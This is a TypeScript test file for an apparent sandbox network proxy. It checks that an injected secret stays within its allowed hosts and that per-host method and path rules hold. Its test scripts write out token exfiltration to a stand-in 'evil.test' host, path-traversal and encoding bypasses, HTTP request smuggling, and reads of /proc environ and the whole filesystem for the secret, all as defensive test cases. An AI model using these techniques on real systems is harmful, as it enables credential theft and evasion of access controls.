/** What gets a value out, or past a rule: each way is tried, beside one that is allowed. */

import { beforeAll, expect, test } from "vitest";

import { type End, type Job, kHere, makeWorld } from "../network/made-up-internet.js";
import { whyNoOwnNetwork } from "../network/own-network.js";
import { kNodeProgram } from "../support/node-arguments.js";
import { describeUnless, whyNoBubblewrap } from "../support/requirements.js";

const kValue = "ghp_value-of-the-secret-0123456789";
const kOther = "another-value-of-b-0123456789";
const kBearer = '-H "Authorization: Bearer $API_TOKEN"';
const kStatus = "-o /dev/null -w '%{http_code}\\n'";
const kSecrets = [
  { name: "API_TOKEN", value: kValue, hosts: ["a.test/v1/*", "a.test/echo", "a.test/drip"] },
  { name: "OTHER", value: kOther, hosts: ["b.test", "a.test:9443"] },
];
const kNetwork = { allow: ["a.test", "b.test", "evil.test"], ...kHere, secrets: kSecrets };

type Attempt = {
  name: string;
  script: string;
  network?: Job["network"];
  out?: string | RegExp;
  /** The denials' kinds. */
  denied?: string[];
  /** The value reaches a server, which is meant to have it. */
  isSent?: boolean;
  /** Where a server has to be reached, or none must be. */
  reaches?: boolean;
};

const kEchoed = "<Bearer PLACEHOLDER>";
/** Says what was echoed with PLACEHOLDER in the place of what the command has. */
const echoed = (command: string) => `${command} | sed "s/$API_TOKEN/PLACEHOLDER/g"`;

/** Sends bytes as they are. */
const raw = (request: string) =>
  `printf '${request}' | openssl s_client -quiet -ign_eof -servername a.test -connect a.test:443 2>/dev/null | head -1`;

const kAttempts: Attempt[] = [
  {
    name: "control: to its host and path",
    script: `curl -sS ${kStatus} ${kBearer} https://a.test/v1/x`,
    out: "200\n",
    isSent: true,
  },
  {
    name: "another path of its host",
    script: `curl -sS ${kStatus} ${kBearer} https://a.test/v2/x`,
    out: "403\n",
    denied: ["secret"],
    reaches: false,
  },
  {
    name: "a path that only looks like its own",
    script: `for p in v1/../v2/x v1/%2e%2e/v2/x v1//../../v2 v1/..%2fv2 v1%2f..%2fv2/x 'v1/..;/v2' v1/%252e%252e/v2 V1/x; do
      curl --path-as-is -sS ${kStatus} ${kBearer} "https://a.test/$p"; done`,
    // The seventh normalises to a segment "..;" below /v1, which it is.
    out: "403\n403\n403\n403\n403\n200\n403\n403\n",
    denied: Array(7).fill("secret"),
    isSent: true,
  },
  {
    name: "another host that has a secret of its own",
    script: `curl -sS ${kStatus} ${kBearer} https://b.test/v1/x`,
    out: "403\n",
    denied: ["secret"],
    reaches: false,
  },
  {
    name: "a redirect to another host",
    script: `curl -sS -L --location-trusted ${kStatus} ${kBearer} 'https://a.test/v1/redirect?https://b.test/x'`,
    out: "403\n",
    denied: ["secret"],
    isSent: true,
  },
  {
    name: "another port",
    script: `curl -sS -m 5 ${kStatus} ${kBearer} http://a.test/v1/x; true`,
    network: { ...kNetwork, allow: [...kNetwork.allow, "a.test:80"] },
    out: "200\n",
  },
  {
    name: "a host that is spliced: it gets the placeholder",
    script: `curl -sSk ${kStatus} ${kBearer} https://evil.test/v1/x`,
    out: "200\n",
  },
  {
    name: "an answer that echoes it, in body and header, over both protocols",
    script: `for p in --http1.1 --http2; do curl -sS $p -D- ${kBearer} https://a.test/echo; done | grep -ic "x-echo: Bearer $API_TOKEN"`,
    out: "2\n",
    isSent: true,
  },
  {
    name: "a compressed answer",
    script: `curl -sS --compressed ${kBearer} https://a.test/echo | grep -c "$API_TOKEN"`,
    out: "1\n",
    isSent: true,
  },
  {
    name: "an answer that comes byte by byte, over both protocols",
    script: echoed(
      `(curl -sS --http1.1 ${kBearer} https://a.test/drip; curl -sS ${kBearer} https://a.test/drip)`,
    ),
    out: `${kEchoed}\n${kEchoed}\n`,
    isSent: true,
  },
  {
    name: "credentials that are coded, echoed as they were sent",
    script: `curl -sS -u "me:$API_TOKEN" https://a.test/echo | grep -c "$(printf "me:$API_TOKEN" | base64 -w0)"`,
    out: "1\n",
    isSent: true,
  },
  {
    name: "TRACE",
    script: `for p in --http1.1 --http2; do curl -sS $p -X TRACE ${kStatus} ${kBearer} https://a.test/v1/x; done`,
    out: "405\n405\n",
    denied: ["request"],
    reaches: false,
  },
  {
    name: "a Host that is another than the connection's",
    script: `for p in --http1.1 --http2; do curl -sS $p ${kStatus} -H 'Host: b.test' ${kBearer} https://a.test/v1/x; done`,
    out: "421\n421\n",
    denied: ["request"],
    reaches: false,
  },
  {
    name: "a request that a proxy would take, and CONNECT",
    script: `${raw("GET http://b.test/ HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n")}
      ${raw("CONNECT b.test:443 HTTP/1.1\\r\\nHost: b.test\\r\\n\\r\\n")}`,
    out: "HTTP/1.1 400 Bad Request\r\nHTTP/1.1 405 Method Not Allowed\r\n",
    denied: ["request", "request"],
    reaches: false,
  },
  {
    name: "a request with two ends, and one with two hosts",
    script: `${raw("POST /v1/x HTTP/1.1\\r\\nHost: a.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /v2 HTTP/1.1\\r\\n\\r\\n")}
      ${raw("GET /v1/x HTTP/1.1\\r\\nHost: a.test\\r\\nHost: b.test\\r\\n\\r\\n")}
      ${raw("GET /v1/x HTTP/1.1\\r\\nHost: a.test\\r\\nX: a\\r\\n b\\r\\n\\r\\n")}`,
    out: /^(HTTP\/1\.1 4\d\d .*\r\n)*$/,
    reaches: false,
  },
  {
    name: "plain HTTP by the proxy to the port of TLS",
    script: `curl -sS ${kStatus} -x http://127.0.0.1:3128 ${kBearer} http://a.test:443/v1/x`,
    out: "403\n",
    reaches: false,
    denied: ["connect"],
  },
  {
    name: "a placeholder in places where no value is put",
    script: `curl -sS ${kStatus} -d "$API_TOKEN" https://a.test/v1/x
      curl -sS ${kStatus} "https://a.test/v1/$API_TOKEN#$API_TOKEN"
      curl -sS ${kStatus} -H "Authorization: Bearer $(printf "$API_TOKEN" | tr A-Z a-z)" https://a.test/v1/x
      curl -sS ${kStatus} -H "X: $(printf "$API_TOKEN" | base64 -w0)" https://a.test/v1/x
      curl -sS ${kStatus} -H "X: $(printf "$API_TOKEN" | cut -c1-20)" -H "Y: $(printf "$API_TOKEN" | cut -c21-)" https://a.test/v1/x`,
    out: "200\n".repeat(5),
  },
  {
    name: "a placeholder for another host, coded",
    script: `curl -sS ${kStatus} -H "X: $(printf "$API_TOKEN" | base64 -w0)" https://b.test/
      curl -sS ${kStatus} "https://b.test/?$(printf "$API_TOKEN" | sed 's/\\(.\\)/%\\1/' | cut -c1)%67$(printf "$API_TOKEN" | cut -c2-)"
      curl -sS ${kStatus} -u "me:$API_TOKEN" https://b.test/
      curl -sS ${kStatus} -H "Cookie: a=$API_TOKEN" https://b.test/`,
    out: /^403\n(403|400)\n403\n403\n$/,
    reaches: false,
  },
  {
    name: "what is inside: the environment, /proc and all files",
    script: `cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -c "of-the-secre[t]"; env | grep -c "of-the-secre[t]"
      find / -xdev -type f -newer /proc/1 -size -2000k 2>/dev/null | xargs -r grep -ls "of-the-secre[t]" 2>/dev/null | wc -l`,
    out: "0\n0\n0\n",
  },
  {
    name: "the placeholder is as long, begins alike, and is another in each run",
    script: 'printf "%s" "$API_TOKEN" | cut -c1-4; printf "%s" "$API_TOKEN" | wc -c',
    out: `ghp_\n${kValue.length}\n`,
  },
  {
    name: "a server that nobody vouches for",
    script: `curl -sS ${kBearer} https://own.test/v1/x`,
    network: {
      ...kNetwork,
      allow: ["own.test"],
      allowPrivate: ["11.22.0.0/16", "127.0.0.0/8"],
      secrets: [{ name: "API_TOKEN", value: kValue, hosts: ["own.test"] }],
    },
    out: /^native-runner: own\.test can't be asked: /,
    denied: ["request"],
    reaches: false,
  },
  {
    name: "a credential that is set, whatever the command sent",
    script: `curl -sS ${kStatus} -H 'Authorization: Bearer mine' -H 'authorization: Basic eDp5' https://a.test/v1/x`,
    network: {
      ...kNetwork,
      secrets: [{ name: "API_TOKEN", value: kValue, hosts: ["a.test"], as: "bearer" }],
    },
    out: "200\n",
    isSent: true,
  },
  {
    name: "a signature that is made with the credential",
    script: `curl -sS -H "Authorization: AWS4-HMAC-SHA256 Credential=$API_TOKEN/20261129, Signature=0" https://a.test/v1/x`,
    out: "native-runner: AWS4-HMAC-SHA256 signs with the credential, which commands don't have\n",
    denied: ["request"],
    reaches: false,
  },
];

describeUnless(whyNoBubblewrap ?? whyNoOwnNetwork, "a value does not get out", () => {
  const world = makeWorld([kNodeProgram]);
  const ends = new Map<string, End>();
  beforeAll(async () => {
    const jobs = kAttempts.map(({ script, network = kNetwork }) => ({
      network,
      script: `unset CURL_HOME; ${script}`,
    }));
    const done = await world.run(jobs);
    for (const [at, { name }] of kAttempts.entries()) ends.set(name, done[at] as End);
  }, 300_000);

  for (const { name, out, denied = [], isSent = false, reaches } of kAttempts) {
    test(name, () => {
      const end = ends.get(name) as End;
      expect(end.error).toBeUndefined();
      if (typeof out === "string") expect(end.out, end.err).toBe(out);
      else if (out !== undefined) expect(end.out, end.err).toMatch(out);
      const { hits, requests, denials = [], ...rest } = end;
      expect(JSON.stringify([rest, requests, denials])).not.toContain("of-the-secret");
      const texts = hits.map(({ authorization = "", url }) => {
        const [, coded = ""] = authorization.split(" ");
        return [authorization, url, Buffer.from(coded, "base64").toString()].join(" ");
      });
      expect(texts.join(" ").includes("of-the-secret")).toBe(isSent);
      if (reaches === false) expect(hits).toEqual([]);
      if (denied.length > 0) {
        const kinds = denials.flatMap(({ kind, count }) => Array(count).fill(kind));
        expect(new Set(kinds)).toEqual(new Set(denied));
      }
    });
  }
});

const kRuled = (http: object[]) =>
  ({ allow: ["a.test", "b.test"], ...kHere, http }) as Job["network"];
const kGetV1 = [{ host: "a.test", methods: ["GET", "HEAD"], paths: ["/v1/*"] }];

describeUnless(whyNoBubblewrap ?? whyNoOwnNetwork, "rules for requests", () => {
  test.each(["--http1.1", "--http2"])(
    "allow methods and paths, and nothing else (%s)",
    async (way) => {
      const curl = (options: string) => `curl --path-as-is ${way} -sS ${kStatus} ${options}`;
      const script = [
        curl("https://a.test/v1/x"),
        curl("-I https://a.test/v1/x"),
        curl("'https://a.test/v1/x?y=/v2/../z'"),
        curl("https://a.test//v1/./x"),
        curl("https://a.test/%76%31/x"),
        curl("-X POST https://a.test/v1/x"),
        curl("-X get https://a.test/v1/x"),
        curl("https://a.test/v2"),
        curl("https://a.test/v1/../v2"),
        curl("https://a.test/v1/%2e%2e/v2"),
        curl("https://a.test/v1%2f..%2fv2"),
        curl("https://a.test/V1/x"),
        curl("-X OPTIONS --request-target '*' https://a.test/"),
        curl("https://b.test/v2"),
        curl("http://a.test/v1/x"),
      ].join("\n");
      const [end] = await makeWorld().run([{ network: kRuled(kGetV1), script }]);
      // Node knows no method "get" in HTTP/1.1.
      const get = way === "--http2" ? 403 : 400;
      const expected = [200, 200, 200, 200, 200, 403, get, 403, 403, 403, 403, 403, 403, 200, 403];
      expect(end?.out.trim().split("\n").map(Number), end?.err).toEqual(expected);
      expect(end?.requests?.map(({ verdict }) => verdict)).toEqual(
        expected.slice(0, 13).map((status) => (status === 200 ? "allowed" : "refused")),
      );
      expect(end?.requests?.[0]).toMatchObject({
        rule: "GET a.test/v1/*",
        path: "/v1/x",
        status: 200,
      });
      expect(end?.requests?.[5]).toMatchObject({
        reason: "no rule of its host allows it",
        status: 403,
      });
      expect(new Set(end?.denials?.map(({ kind }) => kind))).toEqual(
        new Set(["request", "connect"]),
      );
    },
  );

  test("hold for connections that become something else", async () => {
    const upgrade = (path: string) => `import { get } from "node:https";
      const headers = { connection: "Upgrade", upgrade: "websocket", "sec-websocket-version": "13",
        "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==" };
      const request = get("https://a.test${path}", { headers }, (answer) => console.log(answer.statusCode));
      request.on("upgrade", (answer, socket) => { console.log(answer.statusCode); socket.destroy(); });`;
    const node = makeWorld([kNodeProgram]);
    const script = ["/v1/socket", "/v2/socket"]
      .map((path) => `${kNodeProgram} --input-type=module -e '${upgrade(path)}'`)
      .join("\n");
    const [end] = await node.run([{ network: kRuled(kGetV1), script }]);
    expect(end?.out, end?.err).toBe("101\n403\n");
  });

  test("ask about what they do not allow, with method and path", async () => {
    const network = kRuled(kGetV1);
    const script = `curl -sS ${kStatus} https://a.test/v1/x; curl -sS ${kStatus} -X POST 'https://a.test/v2?q'`;
    const jobs = (["allow", "deny", "throw"] as const).map((onRequest) => ({
      network: { ...network, onRequest },
      script,
    }));
    const [allowed, ...denied] = await makeWorld().run(jobs);
    expect(allowed?.out, allowed?.err).toBe("200\n200\n");
    expect(allowed?.requests?.map(({ rule: by }) => by)).toEqual(["GET a.test/v1/*", "onRequest"]);
    for (const end of denied) {
      expect(end.out, end.err).toBe("200\n403\n");
      expect(end.requests?.[1]).toMatchObject({
        verdict: "refused",
        reason: "onRequest denied it",
      });
    }
    for (const { asked } of [allowed as End, ...denied]) {
      const request = { method: "POST", path: "/v2", program: "/bin/sh" };
      expect(asked).toEqual([{ host: "a.test", port: 443, via: "connect", ...request }]);
    }
  });

  test("of several for a host each allows what it says", async () => {
    const http = [...kGetV1, { host: "a.test:443", methods: ["POST"] }];
    const script = `curl -sS ${kStatus} -d x https://a.test/v2; curl -sS ${kStatus} https://a.test/v2; curl -sS ${kStatus} https://a.test/v1/x`;
    const [end] = await makeWorld().run([{ network: kRuled(http), script }]);
    expect(end?.out, end?.err).toBe("200\n403\n200\n");
  });
});
